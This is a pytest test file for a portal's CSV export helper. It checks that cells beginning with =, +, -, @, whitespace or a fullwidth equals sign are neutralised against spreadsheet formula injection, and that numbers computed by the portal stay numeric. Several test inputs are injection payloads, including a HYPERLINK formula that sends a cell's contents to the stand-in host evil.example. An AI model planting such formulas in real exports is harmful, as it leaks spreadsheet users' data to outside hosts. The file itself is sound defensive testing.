"""The one CSV writer: which cells are neutralised against spreadsheet formulas (OWASP), and
which stay as they are."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest

from portal.csvexport import csv_writer, safe_cell


@pytest.mark.parametrize("value,cell", [
    ("=1+1", "'=1+1"),
    ('=HYPERLINK("http://evil.example/?x="&A1,"details")',
     '\'=HYPERLINK("http://evil.example/?x="&A1,"details")'),
    ("+41 22 000 00 00", "'+41 22 000 00 00"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\n=1+1", "'\n=1+1"),
    ("   =1+1", "'   =1+1"),
    ("\uff1d1+1", "'\uff1d1+1"),  # fullwidth equals sign
    ("-5", "'-5"),  # typed by a person: text, neutralised like any other
    ("a=b", "a=b"),
    ("chat-small", "chat-small"),
    ("", ""),
    (None, ""),
    (True, "True"),
    (-5, -5),  # computed by the portal: numbers stay numbers
    (Decimal("-3.20"), Decimal("-3.20")),
    (-0.5, -0.5),
    (12, 12),
])
def test_cells(value, cell):
    assert safe_cell(value) == cell


def test_a_written_row_reads_back_as_the_neutralised_text():
    out = io.StringIO()
    csv_writer(out).writerow(['=HYPERLINK("http://evil.example","x")', Decimal("-1.5"), "ok"])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ['\'=HYPERLINK("http://evil.example","x")', "-1.5", "ok"]]


def test_without_a_target_each_row_comes_back_as_a_line():
    writer = csv_writer()
    assert writer.writerow(["@x", 1]) == "'@x,1\r\n"


def test_no_other_module_writes_csv_itself():
    """New exports must use `csv_writer`: a bare csv.writer would bring formulas back."""
    root = Path(__file__).resolve().parents[2]
    apps = ["audit", "billing", "deployments", "gateway", "models_catalog", "portal", "tenants"]
    writers = [path.relative_to(root).as_posix()
               for app in apps for path in (root / app).rglob("*.py")
               if re.search(r"\bcsv\.(writer|DictWriter)\b", path.read_text(encoding="utf-8"))]
    assert writers == ["portal/csvexport.py"]
